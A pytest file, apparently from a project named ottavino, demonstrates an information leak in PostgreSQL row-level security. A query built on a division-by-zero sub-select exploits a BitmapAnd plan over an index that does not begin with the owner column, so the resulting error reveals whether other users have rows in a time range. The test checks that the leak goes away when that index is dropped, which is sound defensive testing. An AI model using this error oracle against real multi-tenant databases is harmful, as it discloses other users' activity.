"""An index that does not begin with the owner lets one query find out that others have rows.

PostgreSQL reads the second index of a BitmapAnd only if the first index has an entry, and rows
of all users have entries. A sub-select computes the key for the second index and raises an
error. So the error shows that the first index has an entry. The query changes no setting, and a
session does not refuse it. SECURITY.md says how to avoid such an index.
"""

from typing import Any

import asyncpg
import pytest

from ottavino.postgres.session import session
from ottavino.testing import Database
from ottavino.testing.database import connected
from tests.ottavino.house.db.tables import Document
from tests.ottavino.users import User

pytestmark = pytest.mark.whole

TABLES: Any = Document

EVENTS = """
insert into public.usage_events (user_id, request_type, tokens_used, cost, created_at)
select $1, 'chat', 1, 1, '2026-01-01'::timestamptz + minute * interval '1 minute'
from generate_series(1, 20000) as minute
order by hashint4(minute)
"""

FAILS = "(select (1 / (random() * 0)::int)::text::uuid)"

HAPPENED = f"""
select 1 from public.usage_events
where created_at between (select '{{}}'::timestamptz) and (select '{{}}'::timestamptz)
    and user_id between {FAILS} and {FAILS}
"""


async def happened(attacker: User, since: str, until: str) -> bool:
    """Whether any user has an event of a time, as far as an attacker can tell."""
    try:
        async with session(attacker.identity):
            await TABLES.raw(HAPPENED.format(since, until))
    except asyncpg.DivisionByZeroError:
        return True
    return False


async def test_an_index_without_the_owner_tells_whether_anybody_has_a_row(
    attacked: Database, attacker: User, victim: User
) -> None:
    async with connected(attacked.superuser_url) as connection:
        await connection.execute(EVENTS, victim.id)
        await connection.execute("vacuum analyze public.usage_events")
        assert await happened(attacker, "2026-01-10", "2026-01-11")
        assert not await happened(attacker, "2027-01-10", "2027-01-11")
        await connection.execute("drop index public.usage_events_created_at_idx")
        found = await happened(attacker, "2026-01-10", "2026-01-11")
        assert found == await happened(attacker, "2027-01-10", "2027-01-11")
